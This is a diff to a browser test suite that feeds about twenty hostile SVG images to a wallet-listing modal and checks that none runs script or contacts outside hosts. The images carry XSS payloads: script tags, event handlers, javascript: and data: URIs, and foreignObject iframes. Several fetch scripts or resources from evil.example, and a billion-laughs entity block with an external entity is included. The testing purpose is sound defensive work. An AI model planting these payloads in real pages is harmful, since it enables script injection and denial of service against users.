@@ -112,22 +112,64 @@ for (const [device, more] of [
   })
 }
 
-test('T-12: a picture of a wallet that is a program does not run, and stands in an <img> only', async ({
+// What an SVG can try: run, fetch, frame, grow without end. Each as it is and behind a document type of its own.
+const hostileBodies = [
+  '<script>top.hacked = 1</script>',
+  '<script href="https://evil.example/a.js"/>',
+  '<script type="module">import "https://evil.example/a.js"</script>',
+  '<rect onload="top.hacked=1" onclick="top.hacked=1" width="9" height="9"/>',
+  '<image href="https://evil.example/a.png" onerror="top.hacked=1"/>',
+  '<image href="javascript:top.hacked=1"/>',
+  '<image href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.hacked=1%22/%3E"/>',
+  '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
+  '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.hacked=1"/></foreignObject>',
+  '<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"/></foreignObject>',
+  '<style>@import url(https://evil.example/a.css); rect { fill: url(https://evil.example/b.svg#a) }</style><rect width="9" height="9"/>',
+  '<style>@font-face { font-family: a; src: url(https://evil.example/a.woff2) } text { font-family: a }</style><text y="9">a</text>',
+  '<use href="https://evil.example/b.svg#a"/>',
+  '<use href="data:image/svg+xml,%3Csvg id=%22a%22 xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.hacked=1%22/%3E#a"/>',
+  '<a href="javascript:top.hacked=1"><rect width="9999" height="9999"/></a>',
+  '<animate attributeName="href" values="javascript:top.hacked=1" onbegin="top.hacked=1" dur="1s"/>',
+  '<set attributeName="onmouseover" to="top.hacked=1"/>',
+  '<filter id="f"><feImage href="https://evil.example/c.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
+  '<g id="a0"><rect width="9" height="9"/></g><g id="a1"><use href="#a0"/><use href="#a0"/></g><g id="a2"><use href="#a1"/><use href="#a1"/></g>',
+  '<rect width="100000" height="100000" fill="red"/>',
+]
+const billionLaughs =
+  '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "https://evil.example/x">]>'
+const hostileSvgs = hostileBodies.flatMap((body) => {
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1" width="100000" height="100000">${body}`
+  return [`${svg}</svg>`, `${billionLaughs}${svg}<text>&c;&x;</text></svg>`]
+})
+
+test(`T-12: ${hostileSvgs.length} pictures of wallets that are programs: none runs or asks anybody, each stands in an <img> only`, async ({
   context,
   page,
 }) => {
+  expect(hostileSvgs.length).toBeGreaterThanOrEqual(40)
   const hosts = new Set<string>()
   context.on('request', (request) => hosts.add(new URL(request.url()).host))
-  const script = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.hacked=1" width="100000" height="100000">
-    <script>top.hacked = 1; fetch('https://evil.example/')</script><image xlink:href="https://evil.example/a.png"/>
-    <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
-    <style>@import url(https://evil.example/a.css);</style><use href="https://evil.example/b.svg#a"/></svg>`
-  await page.route('**/getWalletImage/**', (route) => route.fulfill({ contentType: 'image/svg+xml', body: script }))
+  const listings = hostileSvgs.map((_, index) => ({ id: `w${index}`, name: `W ${index}`, image_id: `w${index}` }))
+  await page.route('**/getAllListings*', (route) =>
+    route.fulfill({
+      headers: { 'access-control-allow-origin': '*' },
+      json: { listings, total: listings.length, page: 1 },
+    }),
+  )
+  const served = new Set<string>()
+  await page.route('**/getWalletImage/**', (route) => {
+    const index = Number(/getWalletImage\/w(\d+)/.exec(route.request().url())?.[1] ?? 0)
+    const body = hostileSvgs[index] ?? ''
+    served.add(body)
+    return route.fulfill({ contentType: 'image/svg+xml', body })
+  })
   await openModal(page, proof.hostUrl)
   await page
     .getByRole('dialog')
     .getByRole('button', { name: /View All/ })
     .click()
+  // Each page of the list is preloaded whole (C5).
+  await expect.poll(() => served.size).toBe(hostileSvgs.length)
   await expect
     .poll(() =>
       page.evaluate(() =>
@@ -139,7 +181,7 @@ test('T-12: a picture of a wallet that is a program does not run, and stands in 
   expect(await page.locator('dialog').locator('iframe, object, embed, foreignObject, image, use, script').count()).toBe(
     0,
   )
-  expect([...hosts].filter((host) => !host.startsWith('localhost:'))).toEqual([])
+  expect([...hosts].filter((host) => host !== '' && !host.startsWith('localhost:'))).toEqual([])
 })
 
 const names = [
